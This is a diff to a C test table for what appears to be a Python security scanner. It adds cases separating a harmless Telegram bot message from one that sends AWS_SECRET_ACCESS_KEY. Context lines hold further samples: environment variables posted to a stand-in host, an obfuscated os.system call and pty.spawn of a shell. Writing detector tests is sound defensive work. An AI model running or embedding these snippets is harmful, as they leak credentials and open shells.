@@ -201,6 +201,15 @@ static const struct {
 	{ "import os\ngetattr(os, 'sys' + 'tem')('ls')\n", "GH-PY-0005", NULL },
 	{ "import torch\ngetattr(torch, 'flo' + 'at32')\n", NULL, "GH-PY-0005" },
 	{ "import os, requests\nrequests.post('http://h.example', data=str(os.environ))\n", "GH-PY-0006", NULL },
+	/* the token of a bot is part of its address; what is sent there is another matter */
+	{ "import os, requests\ndef f(x):\n    "
+	  "requests.post(f\"https://api.telegram.org/bot{os.environ['TG_TOKEN']}/m\", "
+	  "json={'text': x})\n",
+	  NULL, "GH-PY-0006" },
+	{ "import os, requests\ndef f(x):\n    "
+	  "requests.post(f\"https://api.telegram.org/bot{os.environ['TG_TOKEN']}/m\", "
+	  "json={'text': os.environ['AWS_SECRET_ACCESS_KEY']})\n",
+	  "GH-PY-0006", NULL },
 	{ "import requests\ndef f():\n    return requests.get('http://h.example').json()\n", "GH-PY-0007",
 	  "GH-PY-0006" },
 	{ "import pty\npty.spawn('/bin/sh')\n", "GH-PY-0008", NULL },
